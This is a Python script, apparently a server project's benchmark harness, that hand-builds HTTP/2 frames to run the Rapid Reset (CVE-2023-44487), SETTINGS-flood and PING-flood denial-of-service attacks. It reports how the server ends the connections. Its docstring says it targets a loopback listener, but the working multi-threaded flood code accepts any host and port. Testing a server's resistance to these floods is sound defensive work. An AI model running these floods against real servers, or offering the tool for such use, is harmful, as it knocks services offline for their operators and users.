#!/usr/bin/env python3
"""HTTP/2 floods against a cleartext (prior knowledge) HTTP/2 listener on
loopback, for benches/slow-clients.sh. Standard library only: the frames are
written by hand.

  h2flood.py KIND HOST PORT PATH SECONDS CONNECTIONS

KIND:
  rapid-reset  HEADERS then RST_STREAM(CANCEL) for stream after stream
               (CVE-2023-44487)
  settings     SETTINGS frames, never reading the ACKs (CVE-2019-9515)
  ping         PING frames, never reading the answers (CVE-2019-9512)

Each of CONNECTIONS threads floods over one connection and opens another
when the server closes it, until SECONDS have passed. Prints one JSON line:
frames sent, connections opened, connections the server ended (by GOAWAY
or by closing), the GOAWAY error codes seen, and the highest stream id sent.
"""

import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS = 0x1, 0x4
CANCEL = 0x8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name_index, value):
    """A literal header field without indexing, its name from the static table."""
    value = value.encode()
    assert len(value) < 127
    return bytes([name_index]) + bytes([len(value)]) + value


def request_block(host, path):
    # :method GET (2), :scheme http (6), :path (4), :authority (1)
    return b"\x82\x86" + literal(0x04, path) + literal(0x01, host)


class Totals:
    def __init__(self):
        self.lock = threading.Lock()
        self.frames = 0
        self.opened = 0
        self.ended = 0
        self.goaway = {}
        self.max_stream = 0

    def add(self, **counts):
        with self.lock:
            for name, value in counts.items():
                setattr(self, name, getattr(self, name) + value)


def reader(sock, seen):
    """Reads frames until the connection ends; records a GOAWAY."""
    buffer = b""
    try:
        while True:
            data = sock.recv(65536)
            if not data:
                break
            buffer += data
            while len(buffer) >= 9:
                length = int.from_bytes(buffer[:3], "big")
                if len(buffer) < 9 + length:
                    break
                kind = buffer[3]
                payload = buffer[9 : 9 + length]
                buffer = buffer[9 + length :]
                if kind == GOAWAY and len(payload) >= 8:
                    seen["goaway"] = int.from_bytes(payload[4:8], "big")
    except OSError:
        pass
    seen["closed"] = True


def flood(kind, host, port, path, until, totals):
    block = request_block(host, path)
    while time.monotonic() < until:
        try:
            sock = socket.create_connection((host, port), timeout=5)
        except OSError:
            time.sleep(0.05)
            continue
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        totals.add(opened=1)
        seen = {}
        thread = threading.Thread(target=reader, args=(sock, seen), daemon=True)
        sent = 0
        stream = 1
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            thread.start()
            while time.monotonic() < until and "closed" not in seen:
                batch = []
                for _ in range(100):
                    if kind == "rapid-reset":
                        batch.append(frame(HEADERS, END_STREAM | END_HEADERS, stream, block))
                        batch.append(frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL)))
                        stream += 2
                        sent += 2
                    elif kind == "settings":
                        # SETTINGS_MAX_CONCURRENT_STREAMS = 100
                        batch.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x3, 100)))
                        sent += 1
                    else:
                        batch.append(frame(PING, 0, 0, b"floodingping"[:8]))
                        sent += 1
                sock.sendall(b"".join(batch))
        except OSError:
            pass
        finally:
            # Whether the server ended it, looked at before this side closes.
            time.sleep(0.01)
            ended = "goaway" in seen or "closed" in seen
            totals.add(frames=sent)
            with totals.lock:
                totals.max_stream = max(totals.max_stream, stream - 2)
            try:
                sock.close()
            except OSError:
                pass
            thread.join(timeout=1)
            if ended:
                totals.add(ended=1)
            if "goaway" in seen:
                code = str(seen["goaway"])
                with totals.lock:
                    totals.goaway[code] = totals.goaway.get(code, 0) + 1


def main():
    if len(sys.argv) != 7 or sys.argv[1] not in ("rapid-reset", "settings", "ping"):
        print(__doc__, file=sys.stderr)
        sys.exit(2)
    kind, host, port, path, seconds, connections = sys.argv[1:]
    until = time.monotonic() + float(seconds)
    totals = Totals()
    threads = [
        threading.Thread(target=flood, args=(kind, host, int(port), path, until, totals))
        for _ in range(int(connections))
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    print(
        json.dumps(
            {
                "kind": kind,
                "frames": totals.frames,
                "connections": totals.opened,
                "ended_by_server": totals.ended,
                "goaway_codes": totals.goaway,
                "max_stream": totals.max_stream,
            }
        )
    )


if __name__ == "__main__":
    main()
